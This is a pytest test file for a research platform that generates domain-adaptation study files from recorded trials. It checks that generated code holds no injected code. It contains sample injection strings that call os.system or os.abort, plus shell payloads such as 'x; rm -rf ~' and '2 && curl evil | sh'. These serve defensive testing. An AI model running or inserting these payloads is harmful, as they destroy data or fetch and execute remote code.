"""The study that would tell: it loads, its ends are the trials on record, and nothing of a record is code in it."""

import ast
import dataclasses
import itertools
from pathlib import Path
from typing import Any

import pytest

from platform.commands.study import main
from platform.design.budget import Budget
from platform.design.loading import load
from platform.design.study import Study
from platform.methods import CORAL, DACS, DANN, FDA, AdaBN, Adversarial, SourceOnly
from platform.networks import LRASPP, BiSeNet18
from platform.records.plain import legible
from platform.records.record import Ask
from platform.records.trial import Trial
from platform.results.against.mismatches import Mismatch, mismatches
from platform.results.against.proposal import (
    Around,
    Unsayable,
    factors_between,
    propose,
    remedies,
    rows_before,
    sources,
    unsaid,
)
from platform.results.against.proposal.design import Before
from platform.shifts import CAMVID_11, gta5_to_cityscapes, town
from platform.study import Arm, Recipe
from platform.training.recipe import Recipe as TrainedRecipe
from tests.support.nasty_names import NASTY
from tests.support.synthetic_study import study_header

SMALL = town(size=(32, 64), source_images=(12, 4), target_images=(12, 4, 4))
ENDS = ("mine in results", "theirs in elsewhere")


def study(arms: dict[str, Arm], **changes: Any) -> Study:
    values: dict[str, Any] = {
        "shift": SMALL,
        "arms": arms,
        "reference": next(iter(arms)),
        "budget": Budget(steps=8, evaluations=2),
        "seeds": 3,
        "recipe": Recipe(network=BiSeNet18(width=0.125), batch=2),
    }
    return Study(**values | changes)


def trial(made: Study, name: str = "row", seed: int = 1, after: tuple[str, ...] = ()) -> Trial:
    return made.row(name).trial({}, seed, made.shift.identity(), after)


def written(folder: Path, this: Trial, other: Trial, **given: Any) -> list[Path]:
    """The files of a proposal, in their order."""
    usual: dict[str, Any] = {"before": [], "after": (), "budget": Budget(steps=1, evaluations=1), "seeds": 3, "own": ()}
    proposal = propose(this, other, Around(**usual | given))
    assert proposal is not None
    said = [*map(str, unsaid(proposal.factors, mismatches(this, other)))]
    paths = []
    for number, (source, _) in enumerate(sources(proposal, "Which setting?", ENDS, said)):
        paths.append(folder / f"proposed-{number}.py")
        paths[-1].write_text(source, encoding="utf-8")
    return paths


def ids(path: Path, identity: dict[str, Any] | None = None) -> dict[str, str]:
    """The trials of a study file's rows on the first seed."""
    made = load(path).study
    return {row.name: row.trial({}, 1, identity or made.shift.identity()).id for row in made.rows if not row.given}


PAIRS: dict[str, tuple[Study, Study]] = {
    "a field": (study({"row": Arm(FDA, beta=0.1)}), study({"row": Arm(FDA, beta=0.2)})),
    "fields and recipe": (
        study({"row": Arm(FDA, beta=0.1, learning_rate=0.05)}),
        study({"row": Arm(FDA, beta=0.2, learning_rate=0.01, optimiser="Adam")}),
    ),
    "a choice and a truth value": (
        study({"row": Arm(Adversarial, separable=True, width=16)}),
        study({"row": Arm(Adversarial, criterion="least squares", width=16)}),
    ),
    "another network": (
        study({"row": Arm(SourceOnly, batch=4)}),
        study({"row": Arm(SourceOnly, network=LRASPP(pretrained=False), batch=3)}),
    ),
    "another method": (study({"row": Arm(CORAL, lambda_coral=2.0)}), study({"row": Arm(DANN, learning_rate=0.01)})),
    "one method more": (
        study({"row": Arm(FDA, beta=0.1)}),
        study({"row": Arm(FDA, Adversarial, beta=0.05, width=16)}),
    ),
    "five settings": (
        study({"row": Arm(DACS, threshold=0.9)}),
        study({"row": Arm(DACS, threshold=0.8, momentum=0.5, power=0.5, weight_decay=0.0, warm_up=0.25)}),
    ),
    "threads": (
        study({"row": Arm(FDA, beta=0.1)}),
        study({"row": Arm(FDA, beta=0.2)}, budget=Budget(steps=8, evaluations=2, cpus=2)),
    ),
    "steps": (
        study({"row": Arm(FDA, beta=0.1)}),
        study({"row": Arm(FDA, beta=0.2)}, budget=Budget(steps=12, evaluations=3)),
    ),
    "size and labels of the target": (
        study({"row": Arm(SourceOnly, momentum=0.5)}),
        study({"row": Arm(SourceOnly)}, shift=dataclasses.replace(SMALL, size=(64, 64), few=2)),
    ),
    "another shift": (
        study({"row": Arm(SourceOnly)}),
        study({"row": Arm(SourceOnly, batch=4)}, shift=gta5_to_cityscapes(size=(64, 128))),
    ),
    "classes": (
        study({"row": Arm(SourceOnly)}, shift=gta5_to_cityscapes(size=(64, 128))),
        study({"row": Arm(SourceOnly)}, shift=gta5_to_cityscapes(size=(96, 128), groups=CAMVID_11)),
    ),
    "everything": (
        study({"row": Arm(FDA, Adversarial, beta=0.1, width=16)}),
        study(
            {"row": Arm(DACS, network=LRASPP(), batch_norm="domain-specific")},
            shift=town(size=(64, 64)),
            budget=Budget(steps=10, evaluations=5, cpus=2),
        ),
    ),
}


@pytest.mark.parametrize("pair", PAIRS.values(), ids=PAIRS)
def test_the_ends_of_a_proposal_are_the_trials_that_are_on_record(pair: tuple[Study, Study], tmp_path: Path) -> None:
    this, other = map(trial, pair)
    found: dict[str, str] = {}
    for path in written(tmp_path, this, other):
        rows = ids(path)
        assert not rows.keys() & found.keys(), "every combination is a row of one file"
        found |= rows
        assert load(path).study.smoke().arms.keys() == rows.keys()
    assert {this.id, other.id} <= {*found.values()}
    assert len({*found.values()}) == len(found), "no two rows are one trial"
    number = len(factors_between(this, other, ()))
    assert len(found) == (2**number if number <= 3 else 2 * number + 2)


@pytest.mark.parametrize("name", ["fields and recipe", "another method", "size and labels of the target"])
def test_a_proposal_can_be_planned(name: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    for path in written(tmp_path, *map(trial, PAIRS[name])):
        assert main([str(path), "--plan", "--results", str(tmp_path / "none")]) == 0
        assert "would be refused" not in capsys.readouterr().err


def test_a_row_of_a_full_factorial_differs_from_this_in_what_its_name_says(tmp_path: Path) -> None:
    this, other = map(trial, PAIRS["fields and recipe"])
    (path,) = written(tmp_path, this, other)
    made = load(path).study
    for row in made.rows:
        values = {each.name for each in mismatches(this, row.trial({}, 1, this.shift))}
        assert row.arm.cell is not None
        assert values == {part.split("=")[0] for part, has in row.arm.cell.parts if not has}
        assert all(f"{name}=" in row.name for name in values) or "alone" in row.name or row.name == "this bare"
    assert made.reference == "this"
    assert made.seeds == 3


def test_rows_of_many_settings_go_one_step_from_either_end(tmp_path: Path) -> None:
    this, other = map(trial, PAIRS["five settings"])
    (path,) = written(tmp_path, this, other)
    rows = {row.name: row.trial({}, 1, this.shift) for row in load(path).study.rows}
    steps = {name: (len(mismatches(this, row)), len(mismatches(row, other))) for name, row in rows.items()}
    assert sorted(steps.values()) == sorted([(0, 5), (5, 0), *[(1, 4)] * 5, *[(4, 1)] * 5])
    assert [name for name, (_, left) in steps.items() if left == 1] == [
        f"other without {name}"
        for name in ("threshold=0.8", "momentum=0.5", "weight_decay=0", "power=0.5", "warm_up=0.25")
    ]


def test_combinations_that_no_study_takes_are_left_out_and_named(tmp_path: Path) -> None:
    this = trial(study({"row": Arm(SourceOnly)}))
    other = trial(study({"row": Arm(Adversarial, width=16, batch_norm="domain-specific")}))
    (path,) = written(tmp_path, this, other)
    assert {*ids(path)} == {"this", "method=Adversarial", "other"}
    text = path.read_text(encoding="utf-8")
    assert "left out, since no study takes it: batch_norm=domain-specific: arm 'batch_norm=domain-specific'" in text


def test_a_row_that_comes_after_others_brings_them_along(tmp_path: Path) -> None:
    arms = {"source only": Arm(SourceOnly, learning_rate=0.05), "row": Arm(AdaBN).after("source only")}
    mine, theirs = study(arms), study(arms, budget=Budget(steps=12, evaluations=3))
    sides = []
    for made in (mine, theirs):
        source = trial(made, "source only")
        sides.append((source, trial(made, "row", after=(source.id,))))
    (source, this), (their_source, other) = sides
    before = [Before("source only", source, ())]
    first, second = written(tmp_path, this, other, before=before, after=("source only",))
    for path, begun, ended, name in ((first, source, this, "this"), (second, their_source, other, "other")):
        made = load(path).study
        assert trial(made, "source only").id == begun.id
        assert trial(made, name, after=(begun.id,)).id == ended.id


def test_the_rows_before_a_row_come_in_their_order() -> None:
    arms = {
        "c": Arm(SourceOnly).after("b"),
        "b": Arm(SourceOnly).after("a"),
        "a": Arm(SourceOnly),
    }
    made = study(arms)
    header = study_header("any", ("a", "b", "c"))
    header = dataclasses.replace(
        header,
        arms=tuple(dataclasses.replace(arm, after=made.row(arm.name).arm.follows) for arm in header.arms),
    )
    asks = [Ask(name, "confirm", 0, trial(made, name)) for name in arms]
    assert [each.name for each in rows_before(header, asks, header.arms[2])] == ["a", "b"]
    circle = dataclasses.replace(header.arms[0], after=("c",))
    header = dataclasses.replace(header, arms=(circle, *header.arms[1:]))
    with pytest.raises(Unsayable, match="comes after c"):
        rows_before(header, asks, header.arms[2])


def test_trials_that_are_equal_to_a_study_file_need_none() -> None:
    this = trial(study({"row": Arm(FDA, beta=0.1)}))
    other = dataclasses.replace(this, code="another code")
    assert propose(this, other, Around([], (), Budget(steps=1, evaluations=1), 3, ())) is None
    assert str(unsaid([], mismatches(this, other))[0]).startswith(f"code: {this.code} in this, another code in other")


EVIL = (
    '"""\nimport os\nos.system("touch owned")\n"""',
    "'); __import__('os').system('touch owned') #",
    '"); __import__("os").system("touch owned") #',
    "\\",
    "\\\"); __import__('os').abort() #",
    "x\r__import__('os').abort()",
    "x\u2028__import__('os').abort()\x0c",
    "{__import__('os').abort()}",
    "# coding: rot13",
    "\udcff\x00",
    *NASTY,
)


def allowed(tree: ast.AST) -> None:
    """Raise unless a file holds nothing but a docstring, imports of ours, and calls of these with constants."""
    assert isinstance(tree, ast.Module)
    docstring, *imports, made = tree.body
    assert isinstance(docstring, ast.Expr)
    assert isinstance(docstring.value, ast.Constant)
    names = set()
    for each in imports:
        assert isinstance(each, ast.ImportFrom)
        assert each.module in {f"platform.{room}" for room in ("methods", "networks", "shifts", "study")}
        names |= {alias.name for alias in each.names}
    assert isinstance(made, ast.Assign)
    for node in ast.walk(made.value):
        if isinstance(node, ast.Call):
            of_an_arm = isinstance(node.func, ast.Attribute) and node.func.attr in ("on", "after")
            assert of_an_arm or (isinstance(node.func, ast.Name) and node.func.id in names)
        elif isinstance(node, ast.Name):
            assert node.id in names
        else:
            assert isinstance(
                node,
                ast.Attribute | ast.Constant | ast.Dict | ast.Tuple | ast.keyword | ast.Load | ast.UnaryOp | ast.USub,
            )


@pytest.mark.parametrize("evil", EVIL, ids=itertools.count())
def test_texts_of_records_stay_texts_in_a_proposal(evil: str, tmp_path: Path) -> None:
    """In names of studies and rows, in what no study file can say, and in the names of rows that come before."""
    this = dataclasses.replace(trial(study({"row": Arm(FDA, beta=0.1)})), code=evil)
    other = dataclasses.replace(
        trial(study({"row": Arm(FDA, beta=0.2, batch=3)})),
        data={evil: evil},
        shift=SMALL.identity() | {"renderer": evil},
    )
    before = [Before(evil, trial(study({"a": Arm(SourceOnly)}), "a"), ())]
    budget = Budget(steps=1, evaluations=1)
    if legible(evil) == evil:
        proposal = propose(this, other, Around(before, (evil,), budget, 3, ()))
    else:
        with pytest.raises(Unsayable, match="an arm's name must be one line"):
            propose(this, other, Around(before, (evil,), budget, 3, ()))
        proposal = propose(this, other, Around([], (), budget, 3, ()))
    assert proposal is not None
    besides = [*map(str, unsaid(proposal.factors, mismatches(this, other)))]
    assert besides
    for source, _ in sources(proposal, evil, (evil, evil), [*besides, evil]):
        assert "\x1b" not in source
        allowed(ast.parse(source))
        path = tmp_path / "proposed.py"
        path.write_bytes(source.encode("utf-8"))
        allowed(ast.parse(path.read_bytes()))
        assert load(path).study.arms.keys() >= {"this", "this bare"}


@pytest.mark.parametrize("evil", EVIL[:8], ids=itertools.count())
@pytest.mark.parametrize("where", ["method", "network", "field", "hyperparameter", "optimiser", "size", "groups"])
def test_values_that_are_none_of_this_versions_are_refused(where: str, evil: str) -> None:
    good = trial(study({"row": Arm(FDA, beta=0.1)}))
    changes: dict[str, dict[str, Any]] = {
        "method": {"method": evil},
        "network": {"recipe": good.recipe | {"network": f"BiSeNet18(width={evil})"}},
        "field": {"hyperparameters": good.hyperparameters | {evil: 1.0}},
        "hyperparameter": {"hyperparameters": good.hyperparameters | {"beta": evil}},
        "optimiser": {"recipe": good.recipe | {"optimiser": evil}},
        "size": {"shift": good.shift | {"size": [evil, 64]}},
        "groups": {"shift": good.shift | {"groups": [[evil], [1]]}},
    }
    with pytest.raises(Unsayable):
        factors_between(good, dataclasses.replace(good, **changes[where]), ())


@pytest.mark.parametrize(
    "network",
    [
        "__import__('os').abort()",
        "BiSeNet18(width=__import__('os').abort())",
        "BiSeNet18(**{'width': 1})",
        "BiSeNet18(0.5)",
        "BiSeNet18(width=0.5)",  # which is not how it is recorded
        "Architecture()",
        "NoWeights()",
        "upsample(images=1)",
        "BiSeNet18(width=-1.0, pretrained=False)",
        "(" * 10_000,
        "Own(width=1.0)",
    ],
)
def test_a_network_is_looked_up_and_never_executed(network: str) -> None:
    good = trial(study({"row": Arm(FDA)}))
    with pytest.raises(Unsayable, match="the network"):
        factors_between(good, dataclasses.replace(good, recipe=good.recipe | {"network": network}), ())


def test_a_class_of_the_study_files_own_is_not_taken_for_one_of_the_shelf() -> None:
    good = trial(study({"row": Arm(FDA, beta=0.1)}))
    with pytest.raises(Unsayable, match=r"the method FDA is none of platform\.methods"):
        factors_between(good, good, {"FDA"})
    with pytest.raises(Unsayable, match="the network"):
        factors_between(good, good, {"BiSeNet18"})


def test_a_text_that_may_name_a_file_is_not_taken_over() -> None:
    good = trial(study({"row": Arm(FDA)}))
    named: dict[str, Any] = {"method": "TranslatedImages", "hyperparameters": {"folder": "/home/somebody/secret"}}
    with pytest.raises(Unsayable, match="may name a file"):
        factors_between(good, dataclasses.replace(good, **named), ())


def test_records_of_another_versions_fields_are_refused() -> None:
    good = trial(study({"row": Arm(FDA)}))
    older = {name: value for name, value in good.recipe.items() if name != "optimiser"}
    with pytest.raises(Unsayable, match="do not have the same fields: optimiser"):
        factors_between(good, dataclasses.replace(good, recipe=older), ())
    assert {field.name for field in dataclasses.fields(TrainedRecipe)} == good.recipe.keys()


@pytest.mark.parametrize(
    ("name", "other", "said"),
    [
        ("git commit", "0123abc+", "check out 0123abc in another folder"),
        ("git commit", "x; rm -rf ~", "check out that of the other in another folder"),
        ("torch", "2.5.1+cu124", "install torch==2.5.1+cu124 in"),
        ("torch", "2 && curl evil | sh", "install the other's torch in"),
        ("device", "NVIDIA T4", "run the study on the other's machine as well"),
        ("shift.data", "0123", "bring the other's data"),
        ("files of FDA", "0123", "bring the other's data"),
        ("code", "0123", "run both studies again, with one checkout"),
        ("batches", "whole", "give trials more memory"),
        ("optimiser", "SGD", "this version's study files have no such setting"),
    ],
)
def test_what_no_study_file_can_say_comes_with_how_to_find_out(name: str, other: str, said: str) -> None:
    """And with nothing of a stranger's that does harm where it is typed into a shell."""
    (found,) = unsaid([], [Mismatch(name, "a", other, "numbers")])
    assert said in found.remedy
    assert remedies([found, found]) == [f"{name}: {found.remedy}"]


def test_one_remedy_of_several_differences_is_said_once() -> None:
    found = unsaid([], [Mismatch(name, "a", "b", "last bits") for name in ("device", "processor")])
    assert remedies(found) == ["device and processor: run the study on the other's machine as well"]
    commit = Mismatch("git commit", "a", "b", "numbers")
    assert [each.mismatch for each in unsaid([], [Mismatch("code", "a", "b", "numbers"), commit])] == [commit]
